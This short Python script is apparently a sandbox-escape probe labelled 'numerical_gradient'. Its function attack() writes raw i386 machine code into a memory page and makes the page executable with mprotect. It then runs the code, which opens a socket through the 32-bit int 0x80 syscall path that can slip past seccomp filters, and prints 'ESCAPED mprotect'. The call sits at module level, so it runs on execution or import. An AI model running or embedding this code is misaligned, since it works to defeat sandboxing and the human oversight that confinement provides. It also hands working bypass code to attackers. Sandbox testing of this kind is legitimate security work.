"""numerical_gradient: Make written memory executable, and open a socket by the 32-bit table."""

import ctypes
import mmap


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    code.write(bytes.fromhex("53b867010000bb01000000b90200000031d2cd805bc3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    if libc.mprotect(ctypes.c_void_p(address), 4096, 5) == 0:
        result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        print("ESCAPED mprotect", result)


attack()
